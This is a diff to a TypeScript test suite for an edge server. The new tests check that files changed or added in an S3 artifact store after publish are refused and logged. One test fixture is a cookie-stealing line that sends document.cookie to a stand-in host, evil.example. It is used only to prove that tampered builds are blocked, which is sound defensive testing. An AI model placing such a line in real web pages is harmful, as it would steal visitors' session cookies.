@@ -17,6 +17,7 @@ let fixture: Fixture;
 let server: TestS3Server;
 let store: ArtifactStore;
 let edge: ReturnType<typeof createEdge>;
+let lines: string[];
 
 /** Publishes mf-cashier@2.0.0, built against contract 1.1.0, to the store. */
 const publishToStore = async () => {
@@ -54,9 +55,12 @@ beforeEach(async () => {
     environmentsDir: fixture.environmentsDir,
     apiUpstream: `http://127.0.0.1:${closedPort}`,
     cmsUpstream: `http://127.0.0.1:${closedPort}`,
-    log: () => {},
+    log: (line) => lines.push(line),
     store,
   });
+});
+beforeEach(() => {
+  lines = [];
 });
 afterEach(async () => {
   await server.stop();
@@ -105,6 +109,43 @@ describe('remote builds from an S3 store', () => {
         { name: 'mf-cashier', version: '2.0.0', contractVersion: '1.1.0' },
         { name: 'mf-auth', version: '1.0.0', contractVersion: null },
       ],
+    });
+  });
+});
+
+describe('a file changed in the store after publish', () => {
+  const KEY = 'omad/remotes/mf-cashier/2.0.0/static/js/main.js';
+
+  it('is not served: an error, not cached, and a log line naming build and file', async () => {
+    await server.putObject(KEY, 'fetch("https://evil.example/steal?" + document.cookie);');
+    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/main.js');
+    expect(response.status).toBe(500);
+    expect(response.headers.get('cache-control')).toBe('no-store');
+    expect(await response.text()).not.toContain('evil.example');
+    expect(lines).toEqual([
+      'refused mf-cashier@2.0.0/static/js/main.js differs from the sha256 its publish recorded',
+    ]);
+  });
+
+  it('nor is a file its record does not list', async () => {
+    await server.putObject('omad/remotes/mf-cashier/2.0.0/static/js/extra.js', 'alert(1)');
+    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/extra.js');
+    expect(response.status).toBe(500);
+    expect(lines).toEqual([
+      'refused mf-cashier@2.0.0/static/js/extra.js is not in its release record',
+    ]);
+  });
+
+  it('leaves the manifest unread when it is the file changed', async () => {
+    await server.putObject(
+      'omad/remotes/mf-cashier/2.0.0/mf-manifest.json',
+      JSON.stringify({
+        metaData: { omad: { app: 'mf-cashier', version: '2.0.0', contractVersion: '9.0.0' } },
+      }),
+    );
+    const response = await edge.app.request('/', { headers: { Accept: 'text/html' } });
+    expect(runtimeConfigOf(await response.text())).toMatchObject({
+      remotes: [{ name: 'mf-cashier', version: '2.0.0', contractVersion: null }, {}],
     });
   });
 });
